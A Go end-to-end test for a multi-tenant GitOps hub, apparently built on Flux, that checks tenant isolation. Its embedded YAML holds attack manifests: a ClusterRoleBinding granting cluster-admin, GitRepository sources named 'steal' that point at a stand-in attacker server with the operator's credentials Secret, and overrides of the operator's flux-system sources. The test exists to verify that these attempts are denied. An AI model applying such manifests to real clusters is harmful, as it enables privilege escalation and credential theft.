package hub_test

import (
	"net/http"
	"net/http/httptest"
	"slices"
	"strings"
	"sync"
	"testing"

	"github.com/navefleet/nave/e2e/gittest"
	adminv1 "github.com/navefleet/nave/proto/nave/admin/v1"
	"github.com/navefleet/nave/shared/bundle"
	"github.com/navefleet/nave/shared/signing"
)

// TestTenant has a tenant with the right to commit to a repository and the account team of the namespace shop. The
// tenant must not become an administrator, get the operator's credentials, or change the content of the operator's
// Kustomization.
func TestTenant(t *testing.T) {
	var mu sync.Mutex
	var seen []string
	attacker := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		mu.Lock()
		defer mu.Unlock()
		seen = append(seen, r.Method+" "+r.URL.Path)
		http.Error(w, "no", http.StatusNotFound)
	}))
	t.Cleanup(attacker.Close)
	private, err := gittest.Start(gittest.Options{Username: "robot", Password: "canary-of-the-operator"})
	must(t, err)
	t.Cleanup(func() { _ = private.Close() })
	public, err := gittest.Start(gittest.Options{})
	must(t, err)
	t.Cleanup(func() { _ = public.Close() })
	fleet, err := private.NewRepository("fleet")
	must(t, err)
	shop, err := public.NewRepository("shop")
	must(t, err)

	urls := strings.NewReplacer("FLEET", fleet.URL(), "SHOP", shop.URL(), "ATTACKER", attacker.URL+"/x.git")
	_, err = fleet.Commit(map[string]string{"clusters/a/all.yaml": urls.Replace(tenantsOfTheOperator),
		"infra/infra.yaml": `
apiVersion: v1
kind: ConfigMap
metadata: {name: infra, namespace: kube-system}
data: {key: of-the-operator}
`}, "operator")
	must(t, err)
	_, err = shop.Commit(map[string]string{
		"app/all.yaml": urls.Replace(attempts), "deep/all.yaml": adminRole, "infra/infra.yaml": adminRole,
	}, "tenant")
	must(t, err)

	r := start(t, t.TempDir())
	r.apply(cluster + urls.Replace(operatorsSources))
	conn, token := r.join("a")
	apps := newSpoke(t, conn, token).applications("Kustomization shop/escape", "Kustomization flux-system/infra")
	for name, want := range map[string]string{
		"Kustomization flux-system/root": "", "Kustomization flux-system/infra": "", "Kustomization " +
			"shop/team": "team", "Kustomization shop/escape": "team",
	} {
		if got := apps[name]; got == nil || got.ServiceAccount != want {
			t.Errorf("%s is %+v, want service account %q", name, got, want)
		}
	}
	if infra := apps["Kustomization flux-system/infra"]; infra != nil &&
		(len(infra.Objects) != 1 || infra.Objects[0].Kind != "ConfigMap") {
		t.Errorf("the operator's Kustomization has %+v", infra.Objects)
	}
	for _, source := range []string{"private", "steal"} {
		r.awaitSource(source, "AccessDenied")
	}
	mu.Lock()
	defer mu.Unlock()
	if len(seen) > 0 {
		t.Errorf("the tenant's server was asked with a Secret of the hub: %v", seen)
	}
}

const (
	operatorsSources = `
---
apiVersion: v1
kind: Secret
metadata: {name: fleet-credentials, namespace: shop}
stringData: {username: robot, password: canary-of-the-operator}
---
apiVersion: v1
kind: Secret
metadata: {name: fleet-credentials, namespace: flux-system}
stringData: {username: robot, password: canary-of-the-operator}
---
apiVersion: source.toolkit.fluxcd.io/v1
kind: GitRepository
metadata: {name: fleet, namespace: flux-system}
spec: {interval: 1h, url: "FLEET", ref: {branch: main}, secretRef: {name: fleet-credentials}}
---
apiVersion: fleet.nave.io/v1alpha1
kind: Fleet
metadata: {name: all}
spec:
  clusterSelector: {matchLabels: {env: test}}
  template:
    metadata: {name: root}
    spec: {interval: 1h, prune: true, path: "./clusters/${cluster_name}", sourceRef: {kind: GitRepository, name: fleet}}
`
	tenantsOfTheOperator = `
apiVersion: kustomize.toolkit.fluxcd.io/v1
kind: Kustomization
metadata: {name: infra, namespace: flux-system}
spec: {interval: 1h, prune: true, path: ./infra, sourceRef: {kind: GitRepository, name: fleet}}
---
apiVersion: source.toolkit.fluxcd.io/v1
kind: GitRepository
metadata: {name: shop, namespace: shop}
spec: {interval: 1h, url: "SHOP", ref: {branch: main}}
---
apiVersion: kustomize.toolkit.fluxcd.io/v1
kind: Kustomization
metadata: {name: team, namespace: shop}
spec: {interval: 1h, prune: true, path: ./app, serviceAccountName: team, sourceRef: {kind: GitRepository, name: shop}}
`
	attempts = `
apiVersion: kustomize.toolkit.fluxcd.io/v1
kind: Kustomization
metadata: {name: escape, namespace: shop}
spec: {interval: 1h, prune: true, path: ./deep, sourceRef: {kind: GitRepository, name: shop}}
---
apiVersion: source.toolkit.fluxcd.io/v1
kind: GitRepository
metadata: {name: steal, namespace: shop}
spec: {interval: 1h, url: "ATTACKER", secretRef: {name: fleet-credentials}}
---
apiVersion: source.toolkit.fluxcd.io/v1
kind: GitRepository
metadata: {name: private, namespace: shop}
spec: {interval: 1h, url: "FLEET", ref: {branch: main}, secretRef: {name: fleet-credentials}}
---
apiVersion: source.toolkit.fluxcd.io/v1
kind: GitRepository
metadata: {name: steal, namespace: flux-system}
spec: {interval: 1h, url: "ATTACKER", secretRef: {name: fleet-credentials}}
---
apiVersion: source.toolkit.fluxcd.io/v1
kind: GitRepository
metadata: {name: fleet, namespace: flux-system}
spec: {interval: 1h, url: "SHOP", ref: {branch: main}}
`
	adminRole = `
apiVersion: rbac.authorization.k8s.io/v1
kind: ClusterRoleBinding
metadata: {name: team-is-admin}
roleRef: {apiGroup: rbac.authorization.k8s.io, kind: ClusterRole, name: cluster-admin}
subjects: [{kind: ServiceAccount, name: team, namespace: shop}]
`
)

// applications returns the Applications of the first bundle that has all of the names, by their owners.
func (s *spoke) applications(names ...string) map[string]*bundle.Application {
	s.t.Helper()
	for {
		m, err := s.session.Recv()
		must(s.t, err)
		envelope, err := signing.DecodeEnvelope(m.GetOffer().GetEnvelope())
		must(s.t, err)
		payload, err := s.keyring.Verify(envelope, bundle.PayloadType)
		must(s.t, err)
		b, err := bundle.DecodeBundle(payload)
		must(s.t, err)
		apps := map[string]*bundle.Application{}
		for _, e := range b.Applications {
			apps[e.Name.String()], err = bundle.DecodeApplication(s.fetch(e.Digest))
			must(s.t, err)
		}
		if !slices.ContainsFunc(names, func(name string) bool { return apps[name] == nil }) {
			return apps
		}
	}
}

// awaitSource waits until a source of the tenant has the reason.
func (r *rig) awaitSource(name, reason string) {
	r.t.Helper()
	list := &adminv1.ListRequest{Kind: "GitRepository", Cluster: "a", Namespace: "shop"}
	stream, err := r.admin().Watch(r.t.Context(), &adminv1.WatchRequest{List: list, Name: name})
	must(r.t, err)
	for {
		m, err := stream.Recv()
		must(r.t, err)
		if strings.Contains(string(m.GetObject().GetJson()), `"reason":"`+reason+`"`) {
			return
		}
	}
}
